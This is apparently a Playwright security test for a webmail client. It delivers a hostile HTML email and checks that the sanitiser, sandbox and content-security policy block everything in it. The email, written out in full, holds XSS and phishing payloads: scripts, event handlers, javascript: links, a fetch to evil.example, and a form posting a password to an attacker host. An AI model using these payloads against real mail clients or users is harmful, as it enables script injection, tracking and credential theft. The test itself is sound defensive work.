import { randomBytes } from 'node:crypto';
import type { Frame, Request } from '@playwright/test';
import { expect, test } from '../support/colibri.js';
import { deliver, freshUser, logIn, waitForSubject } from '../support/reader-journeys.js';

// Issue 5, "a hostile HTML message renders without running anything or loading anything remote":
// delivered over real SMTP, it carries scripts (inline, SVG), event handlers, javascript: links,
// forms, frames, a meta refresh and every way of loading remote content. Proof: no request leaves
// the server under test, no dialog opens, the flag its scripts would set stays unset in every
// frame, and a click on its links does nothing. Allowing images then loads images and only images.

const EVIL = 'evil.example';
const hostileHtml = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=https://${EVIL}/refresh">
<base href="https://${EVIL}/">
<link rel="stylesheet" href="https://${EVIL}/linked.css">
<style>
@import url("https://${EVIL}/imported.css");
@font-face { font-family: Evil; src: url(https://${EVIL}/font.woff2); }
body { background: url(https://${EVIL}/body-bg.png); font-family: Evil; }
.escaped { background: \\75 rl(https://${EVIL}/escaped.png); }
</style>
<script>window.__pwned = 'head-script'; parent.__pwned = 'head-script'; alert('head');</script>
</head>
<body onload="window.__pwned = 'onload'; alert('onload')">
<p id="greeting">Dear customer, your account needs attention.</p>
<script>window.__pwned = 'body-script'; document.title = 'pwned'; fetch('https://${EVIL}/fetch'); console.log('PWNED');</script>
<img src="https://${EVIL}/pixel.gif" width="1" height="1">
<img src="x" onerror="window.__pwned = 'onerror'; alert('onerror')">
<img srcset="https://${EVIL}/srcset.png 2x" src="cid:none">
<div class="escaped" style="background-image: url('https://${EVIL}/inline-bg.png')">styled</div>
<table background="https://${EVIL}/table-bg.png"><tr><td>table</td></tr></table>
<video poster="https://${EVIL}/poster.png" src="https://${EVIL}/video.mp4" autoplay></video>
<svg width="20" height="20" onload="window.__pwned = 'svg-onload'"><script>window.__pwned = 'svg-script'</script>
<image href="https://${EVIL}/svg-image.png" width="10" height="10"/></svg>
<a id="js-link" href="javascript:window.__pwned = 'js-link'; alert('link')">Verify your account</a>
<a id="js-link-2" href=" JaVaScRiPt:alert('link2')">Or here</a>
<a href="https://${EVIL}/phish">A real link</a>
<form action="https://${EVIL}/steal" method="post"><input name="password" value="x"><button id="submit">Log in</button></form>
<iframe src="https://${EVIL}/frame"></iframe>
<object data="https://${EVIL}/object.swf"></object>
<div onmouseover="window.__pwned = 'hover'">hover me</div>
</body></html>`;

test('a hostile HTML message renders without running anything or loading anything remote', async ({
  page,
  colibri,
}) => {
  // A fresh user (a CLI run), deliveries over SMTP and many steps: more than the default 30 s.
  test.setTimeout(90_000);
  const user = await freshUser();
  const { byRole } = user;
  const subject = `Account notice ${randomBytes(4).toString('hex')}`;

  const serverHost = new URL(colibri.baseURL).host;
  const foreign: Request[] = [];
  page.on('request', (request) => {
    const url = new URL(request.url());
    // Only http(s) and ws(s) reach the network (a cid: the frame cannot resolve fails locally).
    if (/^(https?|wss?):$/.test(url.protocol) && url.host !== serverHost) foreign.push(request);
  });
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const consoleMessages: string[] = [];
  page.on('console', (message) => consoleMessages.push(message.text()));
  const popups: string[] = [];
  page.context().on('page', (popup) => popups.push(popup.url()));

  await deliver(colibri.smtpPort, {
    // A display name that shows another address, on a punycode domain: both must be flagged.
    from: `"security@colibri-bank.example" <alerts@xn--clibri-bank-r7b.example>`,
    to: user.email,
    subject,
    html: hostileHtml,
    text: 'Dear customer, your account needs attention.',
  });
  const emailId = await waitForSubject(user.client, subject);

  await logIn(page, user);
  await page.goto(`/mail/${byRole.inbox}/${emailId}`);
  const conversation = page.getByRole('region', { name: 'Conversation' });
  const frame = page.frameLocator('iframe[title^="Message body"]');
  // The machine is shared: sanitising and laying out this message can take a few seconds.
  await expect(frame.locator('#greeting')).toHaveText('Dear customer, your account needs attention.', {
    timeout: 15_000,
  });

  const everyFrame = () => page.frames();
  const flags = async () =>
    Promise.all(
      everyFrame().map((f: Frame) =>
        f.evaluate(() => ({
          pwned: (window as { __pwned?: unknown }).__pwned ?? null,
          title: document.title,
        })),
      ),
    );

  await test.step('the banner says what remote content was blocked', async () => {
    const banner = conversation.getByRole('status').filter({ hasText: 'blocked to protect your privacy' });
    await expect(banner).toContainText(/\d+ remote images/);
    await expect(banner).toContainText(/remote backgrounds or fonts/);
    await expect(banner).toContainText(/remote style sheets/);
    await expect(banner).toContainText(/other remote resources/);
  });

  await test.step("the sender is flagged as a look-alike, and the server's checks are shown", async () => {
    const warning = conversation.getByRole('alert');
    await expect(warning).toContainText('xn--clibri-bank-r7b.example');
    await expect(warning).toContainText('shows the address security@colibri-bank.example');
    await expect(conversation.getByRole('list', { name: 'Sender checks' })).toContainText('SPF:');
  });

  await test.step('the frame is sandboxed without scripts, and its document holds nothing active', async () => {
    const element = conversation.locator('iframe');
    const sandbox = (await element.getAttribute('sandbox')) ?? 'missing';
    expect(sandbox).not.toContain('allow-scripts');
    expect(sandbox).not.toContain('allow-same-origin');
    expect(sandbox).not.toContain('allow-forms');
    expect(sandbox).not.toContain('allow-top-navigation');
    await expect(element).toHaveAttribute('srcdoc', /Content-Security-Policy[^>]*default-src 'none'/);
    await expect(frame.locator('script, form, input, button, iframe, object, embed, base, link')).toHaveCount(
      0,
    );
    // The only http-equiv is the frame's own CSP; the message's refresh is gone.
    await expect(frame.locator('meta[http-equiv]')).toHaveCount(1);
    await expect(frame.locator('meta[http-equiv]')).toHaveAttribute('http-equiv', 'Content-Security-Policy');
    await expect(frame.locator('[onload], [onerror], [onmouseover], [onclick]')).toHaveCount(0);
    await expect(frame.locator('a[href^="javascript:" i], a[href*="javascript:" i]')).toHaveCount(0);
    await expect(
      frame.locator(`[src*="${EVIL}"], [srcset*="${EVIL}"], [poster*="${EVIL}"], [background*="${EVIL}"]`),
    ).toHaveCount(0);
    await expect(frame.locator('a[href^="https://"]')).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(frame.locator('a[href^="https://"]')).toHaveAttribute('target', '_blank');
  });

  await test.step('clicking its links, hovering and waiting runs nothing', async () => {
    await frame.locator('#js-link').click();
    await frame.locator('#js-link-2').click();
    await frame.getByText('hover me').hover();
    // Give anything scheduled (a late onload, a refresh) the chance to show up: the frame and the
    // app each finish a round trip to the server before we look.
    await page.evaluate(() => fetch('/auth/me').then((r) => r.status));
    for (const state of await flags()) expect(state.pwned).toBeNull();
    expect(await page.title()).toBe('Colibri');
    expect(dialogs).toEqual([]);
    expect(consoleMessages.filter((m) => m.includes('PWNED'))).toEqual([]);
    expect(popups).toEqual([]);
    await expect(page).toHaveURL(new RegExp(`/mail/${byRole.inbox}/${emailId}$`));
    expect(
      foreign.map((r) => r.url()),
      'requests to other hosts',
    ).toEqual([]);
  });

  await test.step('allowing images loads images only, over https, and still runs nothing', async () => {
    // A look-alike sender is never remembered: only "once" is offered.
    await expect(conversation.getByRole('button', { name: /^Always show images/ })).toHaveCount(0);
    await conversation.getByRole('button', { name: 'Show images', exact: true }).click();
    await expect(frame.locator(`img[src="https://${EVIL}/pixel.gif"]`)).toHaveCount(1);
    await expect.poll(() => foreign.length).toBeGreaterThan(0);
    await page.evaluate(() => fetch('/auth/me').then((r) => r.status));
    for (const request of foreign) {
      expect(request.resourceType(), request.url()).toBe('image');
      expect(new URL(request.url()).protocol).toBe('https:');
    }
    const urls = foreign.map((r) => r.url());
    for (const never of [
      'linked.css',
      'imported.css',
      'font.woff2',
      'fetch',
      'video.mp4',
      'frame',
      'object.swf',
      'refresh',
    ])
      expect(
        urls.filter((u) => u.endsWith(`/${never}`)),
        never,
      ).toEqual([]);
    for (const state of await flags()) expect(state.pwned).toBeNull();
    expect(dialogs).toEqual([]);
  });
});
